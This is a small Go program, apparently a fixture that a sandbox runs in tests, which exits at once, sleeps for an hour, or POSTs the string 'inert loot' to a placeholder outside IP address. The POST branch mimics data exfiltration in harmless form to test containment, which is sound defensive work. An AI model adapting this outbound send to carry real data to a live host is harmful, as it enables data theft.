// subject is what a sandbox runs in a test: it ends at once, or never, or when
// it has sent something.
package main

import (
	"net/http"
	"os"
	"strings"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		return
	}
	switch os.Args[1] {
	case "endless":
		time.Sleep(time.Hour)
	case "posts":
		resp, err := http.Post("http://198.51.100.7/", "text/plain", strings.NewReader("inert loot"))
		if err == nil {
			resp.Body.Close()
		}
	}
}
